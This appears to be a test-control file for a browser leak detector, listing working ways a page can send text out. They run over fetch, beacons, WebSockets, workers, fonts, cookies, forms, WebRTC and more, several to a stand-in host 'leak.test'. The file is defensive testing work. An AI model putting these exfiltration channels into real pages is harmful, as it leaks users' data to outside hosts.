/** Runs in Chromium: the ways in which a page can give a text away. Each is a control: the leak test must see it. */

const post = (body: BodyInit, more: RequestInit = {}) => fetch('/leak', { method: 'POST', body, ...more })

async function answerOf(worker: Worker, message: unknown): Promise<void> {
  const answered = new Promise((resolve) => worker.addEventListener('message', resolve))
  worker.postMessage(message)
  await answered
  worker.terminate()
}

async function opened(socket: WebSocket): Promise<void> {
  await new Promise((resolve, reject) => {
    socket.onopen = resolve
    socket.onerror = () => reject(new Error('the WebSocket did not open'))
  })
}

/** A page in the page, which may go elsewhere. */
function frame(): HTMLIFrameElement {
  return document.body.appendChild(document.createElement('iframe'))
}

function submit(method: 'get' | 'post', text: string): void {
  const target = Object.assign(frame(), { name: 'leaking' })
  const form = Object.assign(document.createElement('form'), { method, action: '/leak', target: target.name })
  form.append(Object.assign(document.createElement('input'), { name: 'text', value: text }))
  document.body.append(form)
  form.submit()
}

/** To the page's own origin. */
const HERE: Record<string, (text: string) => unknown> = {
  fetch: (text) => post(JSON.stringify({ text })),
  'fetch with a header': (text) => post('', { headers: { 'x-leak': text } }),
  'fetch with keepalive': (text) => post(text, { keepalive: true }),
  'fetch of a form': (text) => {
    const form = new FormData()
    form.set('text', new Blob([text]))
    return post(form)
  },
  'fetch of gzip': async (text) => post(await new Response(compressed(text)).blob()),
  'fetch of base64': (text) => post(btoa(`${text}.`)),
  'fetch of utf-16': (text) => post(Uint16Array.from(text, (unit) => unit.charCodeAt(0))),
  'fetch of hex': (text) => post([...text].map((unit) => unit.charCodeAt(0).toString(16)).join('')),
  XMLHttpRequest: async (text) => {
    const request = new XMLHttpRequest()
    request.open('POST', '/leak')
    request.send(text)
    await new Promise((resolve) => {
      request.onloadend = resolve
    })
  },
  'sendBeacon of text': (text) => navigator.sendBeacon('/leak', text),
  'sendBeacon of a blob': (text) => navigator.sendBeacon('/leak', new Blob([text])),
  WebSocket: async (text) => {
    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/leak`)
    await opened(socket)
    socket.send(text)
  },
  'WebSocket, letter by letter': async (text) => {
    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/leak`)
    await opened(socket)
    for (const letter of text) socket.send(new Blob([letter]))
  },
  EventSource: async (text) => {
    const source = new EventSource(`/leak?${text}`)
    await new Promise((resolve) => {
      source.onerror = resolve
    })
    source.close()
  },
  'a worker': (text) => answerOf(new Worker('/leak-worker.js', { type: 'module' }), { text }),
  'a worker in a worker': (text) => answerOf(new Worker('/leak-worker.js', { type: 'module' }), { text, nested: true }),
  'a worker that imports': (text) =>
    answerOf(new Worker('/leak-worker.js', { type: 'module' }), { text, url: `/nothing.js?${text}` }),
  'a service worker': async (text) => {
    const registration = await navigator.serviceWorker.register('/leak-service-worker.js')
    const { active } = await navigator.serviceWorker.ready
    const { port1, port2 } = new MessageChannel()
    const answered = new Promise((resolve) => {
      port1.onmessage = resolve
    })
    active?.postMessage({ text }, [port2])
    await answered
    await registration.unregister()
  },
  'an image': (text) => {
    new Image().src = `/leak?${[...text].map((unit) => `%${unit.charCodeAt(0).toString(16)}`).join('')}`
  },
  'a script': (text) => import(`/nothing.js?${text}`).catch(() => {}),
  'a typeface': (text) => new FontFace('leak', `url(/leak?${text})`).load().catch(() => {}),
  'a referrer': async (text) => {
    const address = location.href
    history.replaceState(null, '', `/?${text}`)
    await post('')
    history.replaceState(null, '', address)
  },
  'a cookie': async (text) => {
    // biome-ignore lint/suspicious/noDocumentCookie: it is the leak
    document.cookie = `leak=${text}; max-age=60`
    await post('')
    // biome-ignore lint/suspicious/noDocumentCookie: it is the leak's end
    document.cookie = 'leak=; max-age=0'
  },
  'a form that posts': (text) => submit('post', text),
  'a form that gets': (text) => submit('get', text),
  'a navigation': (text) => {
    frame().src = `/leak?${text}`
  },
}

/** To other hosts: that a connection is made is enough. */
const ELSEWHERE: Record<string, (text: string) => unknown> = {
  fetch: (text) => fetch(`http://leak.test/?${text}`, { mode: 'no-cors' }).catch(() => {}),
  'fetch over TLS': (text) => fetch(`https://${text}.leak.test/`, { mode: 'no-cors' }).catch(() => {}),
  sendBeacon: (text) => navigator.sendBeacon('http://leak.test/', text),
  WebSocket: (text) => opened(new WebSocket(`ws://leak.test/?${text}`)).catch(() => {}),
  WebTransport: (text) => new WebTransport(`https://leak.test/?${text}`).ready.catch(() => {}),
  WebRTC: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:leak.test' }] })
    peer.createDataChannel('leak')
    await peer.setLocalDescription()
  },
  'a worker': (text) =>
    answerOf(new Worker('/leak-worker.js', { type: 'module' }), { text, url: 'http://leak.test/leak.js' }),
  'an image': (text) => {
    new Image().src = `http://leak.test/?${text}`
  },
  'a preconnect': () => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://leak.test' }))
  },
}

function compressed(text: string): ReadableStream {
  return new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))
}

export const ways = (): { here: string[]; elsewhere: string[] } => ({
  here: Object.keys(HERE),
  elsewhere: Object.keys(ELSEWHERE),
})

export async function leakHere(way: string, text: string): Promise<void> {
  await HERE[way]?.(text)
}

export function leakElsewhere(way: string, text: string): void {
  // Nobody answers there.
  void ELSEWHERE[way]?.(text)
}
